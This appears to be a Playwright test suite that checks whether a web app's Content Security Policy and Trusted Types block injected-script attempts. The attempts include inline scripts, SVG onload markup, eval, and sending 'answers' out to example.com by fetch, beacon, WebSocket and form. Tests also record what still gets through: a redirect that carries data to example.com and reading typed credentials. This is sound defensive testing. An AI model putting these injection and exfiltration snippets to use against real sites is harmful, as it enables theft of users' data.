// What the policies refuse: the page's policy, also if only the page itself carries it, and those of the workers. Each attempt is
// made from within, as an injected script would make it.

import type { Page } from "@playwright/test";
import { expect, test } from "@playwright/test";

const ELSEWHERE = "https://example.com";
const AWS = "https://iam.amazonaws.com/";

const TRUSTED_TYPES = /require-trusted-types-for/;

/** An attempt, and the directive that stops it. If text would become code, Trusted Types stop it first. */
type Attempt = [what: string, directive: RegExp, run: () => unknown, isSink?: "sink"];

const ATTEMPTS: Attempt[] = [
  [
    "an inline script",
    /script-src/,
    () => {
      const script = document.createElement("script");
      script.textContent = "window.harm = true";
      document.body.append(script);
    },
    "sink",
  ],
  [
    "an inline handler",
    /script-src/,
    () => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "window.harm = true");
      image.src = "data:,";
      document.body.append(image);
    },
    "sink",
  ],
  [
    "eval",
    /script-src/,
    () =>
      new Promise((done) =>
        setTimeout(() => {
          // In a separate task, because the developer tools, which run this function, may evaluate anything.
          try {
            Object.assign(window, { harm: new Function("return true")() });
          } catch {
            // Refused, as intended.
          }
          done(undefined);
        }),
      ),
    "sink",
  ],
  [
    "a script from elsewhere",
    /script-src/,
    () => {
      const script = document.createElement("script");
      script.src = "https://example.com/a.js";
      document.body.append(script);
    },
    "sink",
  ],
  ["a script from a data address", /script-src/, () => import("data:text/javascript,window.harm=true" as string).catch(() => {})],
  ["an inline style", /style-src/, () => document.body.setAttribute("style", "color: red")],
  [
    "a style sheet from elsewhere",
    /style-src/,
    () => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.href = "https://example.com/a.css";
      document.head.append(link);
    },
  ],
  [
    "an image from elsewhere",
    /img-src/,
    () => {
      new Image().src = "https://example.com/a.png";
    },
  ],
  ["a font from elsewhere", /font-src/, () => new FontFace("harm", "url(https://example.com/a.woff2)").load().catch(() => {})],
  ["a font from within", /font-src/, () => new FontFace("harm", "url(data:font/woff2;base64,AAAA)").load().catch(() => {})],
  [
    "a sound from elsewhere",
    /media-src/,
    () => {
      const audio = new Audio("https://example.com/a.mp3");
      audio.load();
    },
  ],
  [
    "a frame",
    /frame-src/,
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://example.com/";
      document.body.append(frame);
    },
  ],
  [
    "a plug-in",
    /object-src/,
    () => {
      const object = document.createElement("object");
      object.data = "https://example.com/a.swf";
      document.body.append(object);
    },
    "sink",
  ],
  [
    "a form sent elsewhere",
    /form-action/,
    () => {
      const form = document.createElement("form");
      form.action = "https://example.com/";
      document.body.append(form);
      form.submit();
    },
  ],
  [
    "a form sent here",
    /form-action/,
    () => {
      const form = document.createElement("form");
      document.body.append(form);
      form.submit();
    },
  ],
  [
    "a base for relative addresses",
    /base-uri/,
    () => {
      const base = document.createElement("base");
      base.href = "https://example.com/";
      document.head.append(base);
    },
  ],
  ["a request to elsewhere", /connect-src/, () => fetch("https://example.com/", { mode: "no-cors" }).catch(() => {})],
  [
    "a request to AWS by the page itself",
    /connect-src/,
    () => fetch("https://iam.amazonaws.com/", { mode: "no-cors" }).catch(() => {}),
  ],
  [
    "an old-fashioned request",
    /connect-src/,
    () => {
      const request = new XMLHttpRequest();
      request.open("GET", "https://example.com/");
      request.send();
    },
  ],
  ["a beacon", /connect-src/, () => void navigator.sendBeacon("https://example.com/", "answers")],
  ["a WebSocket", /connect-src/, () => void new WebSocket("wss://example.com/")],
  ["an event source", /connect-src/, () => void new EventSource("https://example.com/")],
  ["a worker from a blob", /worker-src/, () => void new Worker(URL.createObjectURL(new Blob(["1"]))), "sink"],
  ["a worker from elsewhere's data", /worker-src/, () => void new Worker("data:text/javascript,1"), "sink"],
];

/** Text that would become markup or a program, which only Trusted Types stop. */
const SINKS: Attempt[] = [
  ["text as markup", TRUSTED_TYPES, () => (document.body.innerHTML = "<b>harm</b>")],
  [
    "text as markup beside what is there",
    TRUSTED_TYPES,
    () => document.body.insertAdjacentHTML("beforeend", '<svg onload="harm"><path/></svg>'),
  ],
  [
    "a drawing that leads elsewhere",
    TRUSTED_TYPES,
    () => (document.createElement("p").innerHTML = '<svg><path href="https://example.com"/></svg>'),
  ],
  ["text as a document", TRUSTED_TYPES, () => new DOMParser().parseFromString("<p>harm</p>", "text/html")],
  ["text written into the document", TRUSTED_TYPES, () => document.write("<p>harm</p>")],
  ["text as what a timer runs", TRUSTED_TYPES, () => setTimeout("window.harm = true")],
  ["a file of ours as a worker", TRUSTED_TYPES, () => new Worker(document.getElementById("boot-files")!.dataset.js!)],
];

/** Makes an attempt on the page, and waits until the violation of the expected directive is reported. */
async function attempt(page: Page, run: () => unknown, directive: RegExp) {
  await page.evaluate(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
  });
  await page.evaluate(run).catch(() => {});
  const refused = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused.join(" "));
  await expect.poll(refused).toMatch(directive);
  // Other violations of the attempt must not count for the next one.
  await page.waitForTimeout(50);
  expect(await page.evaluate(() => "harm" in window)).toBe(false);
}

/** Removes from a response what a browser without Trusted Types would not understand. */
const withoutTrustedTypes = (text: string) => text.replace(/ (require-trusted-types-for|trusted-types) [^;"]*;/g, "");

for (const carried of ["as a header", "within the page only", "in a browser without Trusted Types"]) {
  const knowsTrustedTypes = !carried.startsWith("in a browser");
  // One page for all attempts, because none of them may change it.
  test(`the page's policy, ${carried}, refuses every attempt`, async ({ page, context, baseURL }) => {
    const left: string[] = [];
    context.on(
      "requestfinished",
      (request) =>
        new URL(request.url()).origin !== new URL(baseURL!).origin &&
        !request.url().startsWith("data:") &&
        left.push(request.url()),
    );
    if (!knowsTrustedTypes) await page.addInitScript(() => Reflect.deleteProperty(window, "trustedTypes"));
    if (carried !== "as a header") {
      await page.route(
        (url) => url.pathname === "/",
        async (route) => {
          const response = await route.fetch();
          const { "content-security-policy": policy, ...headers } = response.headers();
          if (knowsTrustedTypes) return route.fulfill({ response, headers });
          const understood = { ...headers, "content-security-policy": withoutTrustedTypes(policy!) };
          await route.fulfill({ response, headers: understood, body: withoutTrustedTypes(await response.text()) });
        },
      );
    }
    await page.goto("/");
    await expect(page.locator("#boot")).toHaveCount(0);
    for (const [what, directive, run, isSink] of knowsTrustedTypes ? [...ATTEMPTS, ...SINKS] : ATTEMPTS) {
      await test.step(what, async () => {
        await attempt(page, run, isSink && knowsTrustedTypes ? TRUSTED_TYPES : directive);
        expect(page.url()).toBe(baseURL);
        expect(left).toEqual([]);
      });
    }
  });
}

// SECURITY.md and the page /trust state these limits. If a test fails, a limit is gone: update both.
test.describe("the policies do not stop a script in the page", () => {
  test("from leading the browser to another address with data in it", async ({ page }) => {
    await page.route(`${ELSEWHERE}/**`, (route) =>
      route.fulfill({ contentType: "text/html", body: "<link rel=icon href=data:,>" }),
    );
    await page.goto("/");
    await expect(page.locator("#boot")).toHaveCount(0);
    await page.evaluate(() => {
      location.href = "https://example.com/?answers";
    });
    await page.waitForURL(`${ELSEWHERE}/?answers`);
  });

  test("from reading what is typed into the page", async ({ page }) => {
    await page.goto("/live");
    await page.locator("#credentials").waitFor();
    await page.evaluate(() =>
      document.addEventListener("input", (event) => Object.assign(window, { seen: (event.target as HTMLTextAreaElement).value })),
    );
    await page.locator("#credentials").fill("typed");
    expect(await page.evaluate(() => (window as unknown as { seen: string }).seen)).toBe("typed");
  });

  test("from connecting by WebRTC, because the browser does not know the directive for it", async ({ page }) => {
    await page.route(
      (url) => url.pathname === "/",
      async (route) => {
        const response = await route.fetch();
        const headers = response.headers();
        headers["content-security-policy"] += "; webrtc 'block'";
        await route.fulfill({ response, headers });
      },
    );
    await page.goto("/");
    await expect(page.locator("#boot")).toHaveCount(0);
    const offered = page.evaluate(async () => {
      const connection = new RTCPeerConnection();
      connection.createDataChannel("harm");
      await connection.setLocalDescription(await connection.createOffer());
      return connection.signalingState;
    });
    expect(await offered, "`webrtc 'block'` belongs into xtask/hosting.json now").toBe("have-local-offer");
  });
});

test("another site cannot show the page in a frame", async ({ page, baseURL }) => {
  await page.route("http://other.test/", (route) =>
    route.fulfill({ contentType: "text/html", body: `<link rel=icon href=data:,><iframe src="${baseURL}"></iframe>` }),
  );
  await page.goto("http://other.test/");
  const frame = await (await page.waitForSelector("iframe")).contentFrame();
  await expect.poll(() => frame!.url()).toMatch(/^chrome-error:/);
});

test.describe("workers", () => {
  /** Starts a worker with the policy of a built file, running another script instead, and returns its first answer. */
  async function inWorker<T>(page: Page, program: string, body: string, order: unknown): Promise<T> {
    await page.route(new RegExp(`/${program}-[^/]*_loader\\.js$`), async (route) => {
      await route.fulfill({ response: await route.fetch(), body });
    });
    await page.goto("/");
    await expect(page.locator("#boot")).toHaveCount(0);
    return page.evaluate(
      async ([program, order]) => {
        const files = document.getElementById("boot-files")!.dataset;
        const worker = new Worker(files[program as string]!, { type: "module" });
        worker.postMessage(order);
        return new Promise<T>((done) => (worker.onmessage = ({ data }) => done(data)));
      },
      [program, order] as const,
    );
  }

  /** Makes requests from a worker. Returns for each whether the policy refused it. */
  const fromWorker = (page: Page, program: string, addresses: string[]) =>
    inWorker<boolean[]>(
      page,
      program,
      `
    const refused = new Set();
    addEventListener("securitypolicyviolation", (event) => refused.add(new URL(event.blockedURI).origin));
    onmessage = async ({ data }) => {
      for (const address of data) {
        try { address.startsWith("wss:") ? new WebSocket(address) : await fetch(address, { mode: "no-cors" }); } catch {}
      }
      await new Promise((done) => setTimeout(done, 100));
      postMessage(data.map((address) => refused.has(new URL(address).origin)));
    };`,
      addresses,
    );

  test("the scanner reaches AWS and its own host, and nobody else", async ({ page }) => {
    const strangers = [
      ELSEWHERE,
      "https://amazonaws.com.example.com/",
      "http://iam.amazonaws.com/",
      "https://iam.amazonaws.com:8443/",
      "wss://example.com/",
    ];
    expect(await fromWorker(page, "scanner", strangers)).toEqual(strangers.map(() => true));
    await page.unrouteAll();
    expect(await fromWorker(page, "scanner", [AWS, "https://sts.eu-west-1.amazonaws.com/"])).toEqual([false, false]);
  });

  for (const program of ["document_worker", "evidence_worker"]) {
    test(`the ${program}, which reads files, reaches its own host only`, async ({ page }) => {
      expect(await fromWorker(page, program, [AWS, ELSEWHERE, "wss://example.com/"])).toEqual([true, true, true]);
    });
  }

  for (const program of ["scanner", "document_worker", "evidence_worker"]) {
    test(`in the ${program}, text does not become a program`, async ({ page }) => {
      const refused = await inWorker<string[]>(
        page,
        program,
        `
        const refused = [];
        addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective + " " + event.sample.split("|")[0]));
        onmessage = async () => {
          for (const run of [() => eval("1"), () => new Function("1")(), () => setTimeout("1"), () => new Worker("/boot.js")]) {
            try { run(); refused.push("nothing"); } catch {}
          }
          await new Promise((done) => setTimeout(done, 100));
          postMessage(refused);
        };`,
        "go",
      );
      const sinks = ["eval", "Function", "WorkerGlobalScope setTimeout", "Worker constructor"];
      for (const sink of sinks)
        expect(
          refused.some((each) => each.startsWith("require-trusted-types-for") && each.includes(sink.split(" ").at(-1)!)),
          `${sink}: ${refused}`,
        ).toBe(true);
      expect(refused).not.toContain("nothing");
    });
  }

  test.describe("the service worker", () => {
    test.use({ serviceWorkers: "allow" });

    test("is the only one, and makes no program of text either", async ({ page, context }) => {
      const started = context.waitForEvent("serviceworker");
      await page.goto("/");
      const other = page.evaluate(() => navigator.serviceWorker.register("/boot.js").catch((problem) => String(problem)));
      expect(await other).toContain("TrustedScriptURL");
      const refusal = await (await started).evaluate(() => {
        try {
          setTimeout("globalThis.harm = true");
          return "";
        } catch (problem) {
          return String(problem);
        }
      });
      expect(refusal).toContain("TrustedScript");
    });
  });
});
